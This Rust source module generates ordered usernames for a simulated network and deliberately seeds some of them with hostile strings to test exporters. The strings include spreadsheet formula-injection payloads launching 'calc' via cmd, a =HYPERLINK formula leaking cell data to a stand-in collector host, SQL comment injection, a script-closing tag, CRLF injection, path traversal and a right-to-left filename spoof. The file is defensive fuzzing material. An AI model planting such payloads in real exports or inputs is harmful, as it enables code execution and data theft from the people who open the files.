//! The usernames of a generated network: ordered by index, and some of them hostile.
//!
//! Bytewise order must follow the index, or no page could be found without sorting everything. So a name begins
//! with a fixed-width code that grows with the index, and names whose *first* character is the attack (a formula,
//! a quote, a right-to-left mark) live in a front and a back region, ordered by that first character.

use crate::simulator::noise::Noise;

/// The codes that can be told apart: six syllables of a hundred.
const CODES: u64 = 1_000_000_000_000;
const CONSONANTS: &[u8; 20] = b"bcdfghjklmnpqrstvwxz";
const VOWELS: &[u8; 5] = b"aeiou";
const DOMAINS: [&str; 6] = [
    "acme.example",
    "globex.example",
    "initech.example",
    "umbrella.example",
    "hooli.example",
    "wayne.example",
];

/// What names of the front region begin with, in bytewise order; all of it sorts before the letters.
const FRONT_LEADS: [&str; 14] = [
    "\u{0}",
    "\t",
    "\n",
    " ",
    "\"",
    "'",
    "+",
    ",",
    "-2+3+cmd|' /C calc'!A0 ",
    "../../",
    ";",
    "=HYPERLINK(\"http://collector.example/?\"&A1,\"",
    "=cmd|' /C calc'!A0 ",
    "@SUM(1+9)*",
];
/// What names of the back region begin with, in bytewise order; all of it sorts after the letters.
const BACK_LEADS: [&str; 10] =
    ["Émile ", "ß", "Ωμέγα ", "Ж", "שלום ", "مرحبا ", "\u{200b}", "\u{202e}", "漢字", "😀👩‍👩‍👧 "];
/// What a hostile name of the middle region ends with.
const TAILS: [&str; 14] = [
    " ",
    "  \t",
    ",",
    "\"",
    "\"\"",
    "';--",
    "\n",
    "\r\nsecond,line",
    "\t",
    "\u{0}",
    "\\",
    "e\u{301}",
    "</script>",
    "\u{202e}gnp.exe",
];
/// How often `x` is repeated in a very long name, which stays below the 1,024 bytes that an exporter believes.
const LONG: usize = 900;

/// The names of one network.
#[derive(Clone, Copy, Debug)]
pub(super) struct Names {
    noise: Noise,
    stride: u64,
    front: u64,
    back: u64,
    hostile_per_thousand: u32,
}

/// A place that has a name. The same place has the same name and hash in every period of the network.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Place {
    Front(u64),
    Middle(u64),
    Back(u64),
}

impl Names {
    /// Prepares names for `middle` places, and for regions of hostile first characters sized so that every period
    /// that has at least `smallest` places can hold them.
    pub(super) fn new(noise: Noise, middle: u64, smallest: u64, hostile_per_thousand: u32) -> Self {
        let region = (smallest * u64::from(hostile_per_thousand) / 3000).min(smallest / 3);
        let stride = CODES / (middle + 1);
        Self { noise, stride, front: region, back: region, hostile_per_thousand }
    }

    pub(super) const fn front(&self) -> u64 {
        self.front
    }

    pub(super) const fn back(&self) -> u64 {
        self.back
    }

    /// Returns the name of a place. Names grow with their places: front, middle, back.
    pub(super) fn name(&self, place: Place) -> String {
        match place {
            Place::Front(0) => String::new(),
            Place::Front(index) => self.led(&FRONT_LEADS, index, self.front),
            Place::Back(index) => self.led(&BACK_LEADS, index, self.back),
            Place::Middle(index) => self.middle(index),
        }
    }

    fn led(&self, leads: &[&str], index: u64, region: u64) -> String {
        let lead = index * leads.len() as u64 / region.max(1);
        let lead = usize::try_from(lead).expect("below the number of leads").min(leads.len() - 1);
        let step = CODES / (region + 1);
        let code = code(index * step + self.noise.named("led").at(index).below(step));
        format!("{}{code}", leads[lead])
    }

    fn middle(&self, index: u64) -> String {
        let noise = self.noise.named("middle").at(index);
        let code = code(index * self.stride + noise.at(0).below(self.stride));
        let domain = DOMAINS[pick(noise.at(1), DOMAINS.len())];
        let mut name = format!("{}.{}@{domain}", &code[..6], &code[6..]);
        if noise.at(2).hits(self.hostile_per_thousand / 3) {
            match pick(noise.at(3), TAILS.len() + 1) {
                long if long == TAILS.len() => name.extend(std::iter::repeat_n('x', LONG)),
                tail => name.push_str(TAILS[tail]),
            }
        }
        name
    }
}

fn pick(noise: Noise, choices: usize) -> usize {
    usize::try_from(noise.below(choices as u64)).expect("below a length")
}

/// Writes a number below [`CODES`] as twelve letters that sort as the number does.
fn code(mut value: u64) -> String {
    let mut letters = [0_u8; 12];
    for syllable in letters.chunks_exact_mut(2).rev() {
        let digit = usize::try_from(value % 100).expect("below a hundred");
        syllable[0] = CONSONANTS[digit / 5];
        syllable[1] = VOWELS[digit % 5];
        value /= 100;
    }
    letters.iter().map(|letter| char::from(*letter)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn codes_sort_as_their_numbers() {
        let numbers = [0, 1, 4, 5, 99, 100, 12_345, 999_999_999_999];
        let codes: Vec<String> = numbers.iter().map(|number| code(*number)).collect();
        assert!(codes.is_sorted() && codes.iter().all(|code| code.len() == 12), "{codes:?}");
        assert_eq!(codes[0], "babababababa");
    }

    #[test]
    fn names_grow_strictly_from_front_to_back_and_every_attack_occurs() {
        let names = Names::new(Noise::seeded(3), 4000, 4000, 120);
        let places = (0..names.front())
            .map(Place::Front)
            .chain((0..4000).map(Place::Middle))
            .chain((0..names.back()).map(Place::Back));
        let all: Vec<String> = places.map(|place| names.name(place)).collect();
        for pair in all.windows(2) {
            assert!(pair[0] < pair[1], "{:?} {:?}", pair[0], pair[1]);
        }
        assert_eq!(all[0], "");
        for lead in FRONT_LEADS.iter().chain(&BACK_LEADS) {
            assert!(all.iter().any(|name| name.starts_with(lead)), "{lead:?}");
        }
        for tail in TAILS {
            assert!(all.iter().any(|name| name.contains('@') && name.ends_with(tail)), "{tail:?}");
        }
        assert!(all.iter().any(|name| name.len() > LONG));
    }

    #[test]
    fn without_hostility_all_names_are_addresses() {
        let names = Names::new(Noise::seeded(3), 1000, 1000, 0);
        assert_eq!((names.front(), names.back()), (0, 0));
        assert!((0..1000).all(|index| names.name(Place::Middle(index)).ends_with(".example")));
    }
}
